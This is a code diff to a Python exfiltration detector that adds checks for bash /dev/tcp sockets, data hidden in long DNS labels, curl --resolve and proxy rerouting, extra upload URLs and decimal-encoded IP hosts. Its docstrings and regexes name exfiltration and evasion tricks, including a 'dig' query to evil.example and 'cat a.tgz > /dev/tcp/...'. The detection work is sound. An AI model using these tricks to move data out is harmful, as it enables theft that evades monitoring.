@@ -8,13 +8,14 @@ correlation can join "what was packed" with "what carried it out".
 
 from __future__ import annotations
 
+import re
 from enum import StrEnum
 from urllib.parse import urlsplit
 
 import msgspec
 
 from tidewaiter.detection import cmdline
-from tidewaiter.detection.addresses import AddressPolicy
+from tidewaiter.detection.addresses import AddressPolicy, legacy_ipv4
 from tidewaiter.detection.catalog import Archiver, Catalog, Encryptor, Transfer, load
 from tidewaiter.detection.options import Parsed, parse
 from tidewaiter.events import Activity, Api, Event, Kind
@@ -25,6 +26,9 @@ _COMPRESSED_SUFFIX = {
     "lzma": ".lzma", "zstd": ".zst", "pzstd": ".zst", "lz4": ".lz4", "lzip": ".lz", "lzop": ".lzo",
     "compress": ".Z", "brotli": ".br",
 }  # fmt: skip
+_DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/([^/\s'\"]+)/(\d+)")
+_WORD = re.compile(r"[^\s'\"<>|;&()=,]+")
+DNS_DATA_LABEL = 24  # a DNS label this long is data, not a name someone chose
 _REMOTE_SCHEMES = ("s3://", "gs://", "az://", "https://", "http://", "wasbs://", "abfss://")
 
 
@@ -49,6 +53,7 @@ class Destination(msgspec.Struct, frozen=True, omit_defaults=True):
     ip: str | None = None
     port: int | None = None
     internal: bool = False
+    note: str | None = None  # how the command line routed the bytes there (--resolve, a proxy)
 
     def label(self) -> str:
         where = self.host or self.ip or "?"
@@ -97,12 +102,13 @@ class Signal(msgspec.Struct, frozen=True, omit_defaults=True):
         total = (self.bytes_out or 0) + (other.bytes_out or 0)
         repeats = self.repeats + other.repeats
         dst = self.destination.label() if self.destination else "?"
+        scope = _egress_scope(self.destination)
         return msgspec.structs.replace(
             self,
             bytes_out=total or None,
             repeats=repeats,
             last_time=other.last_time or other.event.time,
-            explanation=f"{total} bytes to non-internal {dst} in {repeats} records",
+            explanation=f"{total} bytes to {scope} {dst} in {repeats} records",
         )
 
 
@@ -235,18 +241,21 @@ class Detector:
         dst = event.dst_endpoint
         if dst is None or dst.ip is None or event.activity is Activity.CLOSE:
             return []
-        if self.policy.ip_internal(dst.ip) is not False:
+        internal = self.policy.ip_internal(dst.ip)
+        if internal is not False and not (internal and self.policy.in_shared_range(dst.ip)):
             return []
+        # The shared range is internal only by choice: its bytes stay in the evidence.
         sent = event.traffic.bytes_out if event.traffic else None
         what = f"{sent} bytes" if sent else "a connection"
+        destination = Destination(dst.hostname, dst.ip, dst.port, internal=bool(internal))
         return [
             Signal(
                 SignalKind.EGRESS,
                 tool=event.process.name if event.process else "network",
                 technique="T1041",
                 event=event,
-                explanation=f"{what} to non-internal {dst.ip}:{dst.port}",
-                destination=Destination(dst.hostname, dst.ip, dst.port, internal=False),
+                explanation=f"{what} to {_egress_scope(destination)} {dst.ip}:{dst.port}",
+                destination=destination,
                 bytes_out=sent,
             )
         ]
@@ -341,7 +350,8 @@ class Detector:
             if name == "busybox" and len(argv) > 1 and argv[1] not in ("sh", "ash", "bash"):
                 applet = cmdline.exe_name(argv[1])
                 return self._command(event, cmdline.Command(argv[1:]), applet, cmd)
-            return self._pipeline(event, self._wrapped_argv(argv, cmd))
+            piped = self._pipeline(event, self._wrapped_argv(argv, cmd))
+            return piped + self._dev_tcp(event, argv) if name in catalog.posix_shells else piped
         if name in catalog.powershells:
             payload = cmdline.powershell_payload(argv)
             if payload is None:
@@ -363,7 +373,34 @@ class Detector:
             found.append(self._split(event, splitter.tool, splitter.technique, command))
         if name in catalog.runtime_binaries:
             found += self._runtime(event, name, command)
+        if name in catalog.resolvers:
+            found += self._dns_query(event, name, command)
         return found
+
+    def _dns_query(self, event: Event, name: str, command: cmdline.Command) -> list[Signal]:
+        """`dig 4a5b...9f.x.evil.example`: a label too long for a name anyone types carries data
+        out in the query itself, to whoever serves the domain."""
+        names = [a for a in command.argv[1:] if "." in a and not a.startswith(("-", "@", "+"))]
+        query = names[0] if names and len(names[0]) <= 253 else ""
+        labels = query.rstrip(".").split(".")
+        if len(labels) < 3 or max(len(label) for label in labels[:-2]) < DNS_DATA_LABEL:
+            return []
+        domain = ".".join(labels[-2:]).lower()
+        destination = self._host_destination(domain, 53)
+        if destination is None or destination.internal:
+            return []
+        return [
+            Signal(
+                SignalKind.EGRESS,
+                tool=name,
+                technique="T1048.003",
+                event=event,
+                explanation=f"{name} queried {query[:80]}: data in a DNS name under {domain}",
+                destination=destination,
+                bytes_out=len(query),
+                sent_paths=(query.lower(),),
+            )
+        ]
 
     def _pipeline(self, event: Event, commands: list[cmdline.Command]) -> list[Signal]:
         found: list[Signal] = []
@@ -465,12 +502,30 @@ class Detector:
         for transfer, pattern, dest_pattern in self.catalog.script_transfers:
             if pattern.search(text):
                 url = dest_pattern.search(text)
+                sent = self._archives_named(text)
                 found.append(
                     self._upload(
-                        event, transfer.tool, transfer.technique, url and url.group(1), (), False
+                        event, transfer.tool, transfer.technique, url and url.group(1), sent, False
                     )
                 )
         return found
+
+    def _archives_named(self, text: str) -> tuple[str, ...]:
+        """Archive files a script or shell payload names (what a raw socket most likely sends:
+        `open("/tmp/a.tgz")`, `cat a.tgz > /dev/tcp/...`)."""
+        words = _WORD.findall(text[:65_536])
+        return tuple(dict.fromkeys(w for w in words if self.catalog.archive_kind(w)))[:4]
+
+    def _dev_tcp(self, event: Event, argv: list[str]) -> list[Signal]:
+        """bash's /dev/tcp/HOST/PORT (and udp): a shell that is its own transfer tool."""
+        payload = cmdline.posix_payload(argv) or ""
+        match = _DEV_TCP.search(payload[:65_536])
+        if match is None:
+            return []
+        port = int(match.group(2)) if len(match.group(2)) <= 5 else None
+        destination = self._host_destination(match.group(1), port)
+        sent = self._archives_named(payload)
+        return [self._upload(event, "bash /dev/tcp", "T1048", destination, sent, False)]
 
     # --- transfers -----------------------------------------------------------------------
 
@@ -489,6 +544,13 @@ class Detector:
             fed = self._fed_by_parent(event, cmdline.exe_name(argv[0]))
         if command.stdin_file:
             sent = (*sent, command.stdin_file)
+        config = next((f"{o} {opts.value(o)}" for o in spec.config_options if opts.value(o)), None)
+        if config is not None:
+            # Its options, the file it sends and where to, are in a file the telemetry lacks.
+            unknown = self._destination(spec, opts) or Destination(host="unknown destination")
+            note = f"options read from {config[:100]}, not in the telemetry"
+            routed = msgspec.structs.replace(unknown, internal=False, note=note)
+            return [self._upload(event, spec.tool, spec.technique, routed, sent, fed)]
         uploads = spec.upload_options or spec.data_options
         if uploads and not sent and not any(opts.has(o) for o in spec.upload_options):
             return []
@@ -501,7 +563,38 @@ class Detector:
             sent = (*sent, *_local_sources(opts.positionals, spec))
         elif spec.destination == "service":  # `gh release upload TAG FILE...`: the file paths
             sent = (*sent, *(p for p in opts.positionals[2:] if "/" in p or "." in p))
-        return [self._upload(event, spec.tool, spec.technique, destination, sent, fed)]
+        targets = self._routes(spec, opts) or self._more_urls(spec, opts, destination)
+        return [self._upload(event, spec.tool, spec.technique, d, sent, fed) for d in targets]
+
+    def _routes(self, spec: Transfer, opts: Parsed) -> list[Destination]:
+        """Where a proxy or a pinned address sends the bytes, whatever the URL names: `curl
+        --resolve github.com:443:203.0.113.77 https://github.com/` reaches 203.0.113.77."""
+        out: list[Destination] = []
+        for option in spec.route_options:
+            value = opts.value(option)
+            if not value:
+                continue
+            fields = value.split(":")
+            if option == "--resolve" and len(fields) >= 3:
+                target = ":".join(fields[2:]).split(",", 1)[0]  # ADDR[,ADDR...], maybe [v6]
+            elif option == "--connect-to" and len(fields) >= 4:
+                target = fields[2] or fields[0]  # an empty CHOST keeps the name
+            else:
+                target = value if "://" in value else f"proxy://{value}"
+            try:
+                routed = self._url_destination(target if "://" in target else f"x://{target}")
+            except ValueError:  # `[oops`: unreadable, so certainly not the allowed name
+                routed = Destination(host=target[:80], internal=False)
+            out.append(msgspec.structs.replace(routed, note=f"routed by {option} {value}"[:120]))
+        return out
+
+    def _more_urls(self, spec: Transfer, opts: Parsed, first: Destination) -> list[Destination]:
+        """Every URL a command sends to (`curl -T a.tgz https://allowed/ https://other/`)."""
+        if spec.destination != "url":
+            return [first]
+        urls = [p for p in opts.positionals if "://" in p][1:9]
+        more = [self._url_destination(u) for u in urls]
+        return [first, *(d for d in more if d != first)]
 
     def _upload(
         self,
@@ -516,12 +609,13 @@ class Detector:
             destination = self._url_destination(destination)
         what = ", ".join(sent[:3]) if sent else ("its input" if fed else "data")
         scope = "internal" if destination.internal else "non-internal"
+        via = f" ({destination.note})" if destination.note else ""
         return Signal(
             SignalKind.UPLOAD,
             tool=tool,
             technique=technique,
             event=event,
-            explanation=f"{tool} sent {what} to {scope} {destination.label()}",
+            explanation=f"{tool} sent {what} to {scope} {destination.label()}{via}",
             destination=destination,
             sent_paths=sent,
         )
@@ -573,6 +667,7 @@ class Detector:
         if not host:
             return None
         host = host.strip("[]")
+        host = legacy_ipv4(host) or host  # `http://3405803853/` is 203.0.113.77 to curl
         ip = host if self.policy.ip_internal(host) is not None else None
         return Destination(
             host=None if ip else host, ip=ip, port=port, internal=self.policy.host_internal(host)
@@ -663,6 +758,12 @@ class Detector:
                 sent_paths=mounts,
             )
         ]
+
+
+def _egress_scope(destination: Destination | None) -> str:
+    """Egress is internal only in the shared range, by the --shared-range choice."""
+    internal = destination is not None and destination.internal
+    return "internal (shared range, --shared-range)" if internal else "non-internal"
 
 
 def _drive(arg: str) -> bool:
